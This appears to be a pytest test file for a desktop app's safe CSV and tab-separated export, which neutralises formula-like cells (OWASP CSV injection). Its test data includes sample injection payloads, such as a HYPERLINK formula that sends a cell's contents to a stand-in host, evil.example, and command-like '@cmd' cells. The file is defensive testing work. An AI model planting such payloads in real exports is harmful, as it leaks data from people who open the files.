"""CSV and copied text that a spreadsheet opens as text: every cell that begins with =, +, -, @, a tab
or a carriage return comes back with a leading quote; plain numbers stay numbers (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import kcc_desktop
from kcc_desktop.csv_cells import SafeCsvWriter, csv_line, formula_start, tsv_line

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+SUM(A1:A9)", "-2+3", "@cmd",
             "\t=1+1", "\rcmd", " =1+1"]
PLAIN = ["-2.50", "+3", "-1,234.50", "42", "0.75", "-.5"]
ORDINARY = ["Acme Tools Ltd", "Widget, steel", 'Ruler 12"', "a=b", "SI-0001", ""]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_like_cell_is_written_as_quoted_text(value):
    line = csv_line(["before", value, "after"])
    assert read_back(line) == [["before", "'" + value, "after"]]
    assert f',"\'{value[:1]}' in line      # the field itself is quoted, the quote mark inside it
    assert formula_start(value) == value.lstrip(" ")[0]


@pytest.mark.parametrize("value", PLAIN + ORDINARY)
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert read_back(csv_line([value, "x"])) == [[value, "x"]]
    assert formula_start(value) == ""
    assert "'" not in csv_line([value]).replace('Ruler 12""', "")   # no quote mark: a number stays a number


def test_the_writer_writes_rows_a_spreadsheet_reads_back(tmp_path):
    path = tmp_path / "out.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        out = SafeCsvWriter(f)
        out.writerow(["Reference", "Amount"])
        for value in DANGEROUS:
            out.writerow([value, "-2.50"])
        out.writerow([None, 3])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Reference", "Amount"]
    assert rows[1:-1] == [["'" + v, "-2.50"] for v in DANGEROUS]
    assert rows[-1] == ["", "3"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_copied_text_gets_the_same_rule(value):
    line = tsv_line(["SI-1", value, "-2.50"])
    first, cell, amount = line.split("\t")    # a tab inside the cell became a space
    assert (first, amount) == ("SI-1", "-2.50")
    assert cell.startswith("\"'") and cell.endswith('"')
    # Read as a spreadsheet reads pasted tab-separated text: one row of three cells, the middle one text.
    [row] = list(csv.reader(io.StringIO(line), delimiter="\t"))
    assert len(row) == 3 and row[1].startswith("'") and row[2] == "-2.50"


def test_copied_text_keeps_tabs_and_line_breaks_inside_a_cell():
    assert tsv_line(["a\tb", "c\nd", "e\r\nf"]) == "a b\tc d\te f"


def test_no_export_writes_csv_around_the_safe_writer():
    """Every grid's CSV export goes through ``SafeCsvWriter`` (most through ``ui.grid.export_grid_csv``), so a
    grid added later cannot write formula-like cells raw: nothing else in the app writes with the csv module."""
    package = Path(kcc_desktop.__file__).parent
    writes = re.compile(r"csv\.(writer|DictWriter)\(")
    raw = [str(path.relative_to(package)) for path in sorted(package.rglob("*.py"))
           if path.name != "csv_cells.py" and writes.search(path.read_text(encoding="utf-8"))]
    assert raw == []
